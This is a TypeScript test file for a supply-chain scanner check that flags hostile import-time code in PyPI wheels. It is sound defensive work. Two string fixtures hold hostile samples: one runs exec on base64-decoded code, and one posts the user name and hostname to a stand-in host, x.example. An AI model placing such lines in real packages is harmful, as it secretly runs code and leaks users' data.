/**
 * import-time-code: the check's table over wheel contents as the source records them (the
 * classifier has its own tests, import-code.test.ts). Flags here are what readImportCode gives
 * for the texts named; clean import code leaves the check out, never adds points.
 */
import { describe, expect, it } from 'vitest';
import check, { HOSTILE_SCORE, SUSPICIOUS_SCORE } from '../../src/checks/import-time-code.js';
import { readImportCode } from '../../src/checks/lib/import-code.js';
import type { PypiImportFile, PypiWheelContents } from '../../src/evidence/schema.js';
import { ok, pypiFacts } from '../support/evidence-builder.js';
import { pypiEvidence } from '../support/pypi-evidence.js';
import { checkTable, outcomeOf } from './check-table.js';

const read = (path: string, text: string): PypiImportFile => {
  const { flags, excerpts } = readImportCode(text);
  return { path, size: text.length, unread: null, flags, excerpts };
};
const unread = (path: string, why: string): PypiImportFile => ({ path, size: 300_000, unread: why, flags: [], excerpts: [] });
const contents = (files: PypiImportFile[] | undefined, extra: Partial<PypiWheelContents> = {}): PypiWheelContents => ({
  wheel: 'example-2.1.0-py3-none-any.whl',
  unavailable: null,
  size: 20_000,
  bytesRead: 4_000,
  entries: 12,
  hooks: [],
  hooksUnread: 0,
  ...(files === undefined ? {} : { importCode: { files, skipped: 0 } }),
  ...extra,
});
const withContents = (wheelContents: PypiWheelContents | undefined) => {
  if (wheelContents !== undefined) return pypiEvidence({ pypi: { wheelContents } });
  const { wheelContents: _absent, ...saved } = pypiFacts();
  return pypiEvidence({ pypi: ok(saved) });
};

const CLEAN = 'from .app import App\n__all__ = ["App"]\n__version__ = "2.1.0"\n';
const EXEC_DECODED = 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n';
const EXFILTRATION = 'import getpass, socket, requests\nrequests.post("https://x.example/c", json={"u": getpass.getuser(), "h": socket.gethostname()})\n';

checkTable(check, [
  { name: 'clean import code: left out, named', evidence: withContents(contents([read('example/__init__.py', CLEAN)])), score: null, messageId: 'clean', data: { files: ['example/__init__.py'] } },
  {
    name: 'edit: the __init__.py executes a decoded payload',
    evidence: withContents(contents([read('example/__init__.py', CLEAN), read('example_helpers.py', EXEC_DECODED)])),
    score: SUSPICIOUS_SCORE,
    messageId: 'suspicious',
    data: { flags: ['exec-decoded'], flagged: ['example_helpers.py'] },
    message: ['example_helpers.py: exec(base64.b64decode('],
  },
  { name: 'edit: the __init__.py sends the user and host names', evidence: withContents(contents([read('example/__init__.py', EXFILTRATION)])), score: HOSTILE_SCORE, messageId: 'hostile', data: { flags: ['exfiltration'] } },
  { name: 'a module over the cap: unknown, not clean', evidence: withContents(contents([read('example/__init__.py', CLEAN), unread('big.py', 'over 256 KiB')])), score: null, messageId: 'unread', data: { reason: 'big.py: over 256 KiB' } },
  { name: 'a finding wins over a module left unread', evidence: withContents(contents([read('example/__init__.py', EXEC_DECODED), unread('big.py', 'over 256 KiB')])), score: SUSPICIOUS_SCORE, messageId: 'suspicious' },
  { name: 'no top-level module (a native or namespace-only wheel): left out', evidence: withContents(contents([])), score: null, messageId: 'no-modules', data: { entries: 12 } },
  { name: 'the wheel could not be read: unknown', evidence: withContents(contents(undefined, { unavailable: 'the wheel could not be read: HTTP 500' })), score: null, messageId: 'unread' },
  { name: 'no wheel in the release: left out', evidence: withContents(contents(undefined, { wheel: null })), score: null, messageId: 'no-wheel' },
  { name: 'evidence saved before nerq read import-time code', evidence: withContents(contents(undefined)), score: null, messageId: 'unread', data: { reason: 'the evidence predates nerq reading import-time code (a fresh run with --no-cache reads it)' } },
  { name: 'evidence saved before nerq read wheels', evidence: withContents(undefined), score: null, messageId: 'unread', data: { reason: 'the evidence predates nerq reading wheels (a fresh run with --no-cache reads it)' } },
]);

describe('import-time-code: what it adds and what it holds', () => {
  it('clean code and a release without a wheel leave the check out; unread is unknown and stays in', () => {
    expect(outcomeOf(check, withContents(contents([read('example/__init__.py', CLEAN)]))).notApplicable).toBe(true);
    expect(outcomeOf(check, withContents(contents(undefined, { wheel: null }))).notApplicable).toBe(true);
    expect(outcomeOf(check, withContents(contents([unread('big.py', 'over 256 KiB')]))).notApplicable).toBeUndefined();
  });

  it('a finding holds the verdict, naming the file', () => {
    expect(outcomeOf(check, withContents(contents([read('example/__init__.py', EXEC_DECODED)]))).holdVerdict).toMatch(/example\/__init__\.py/);
    expect(outcomeOf(check, withContents(contents([read('example/__init__.py', CLEAN)]))).holdVerdict).toBeUndefined();
  });
});
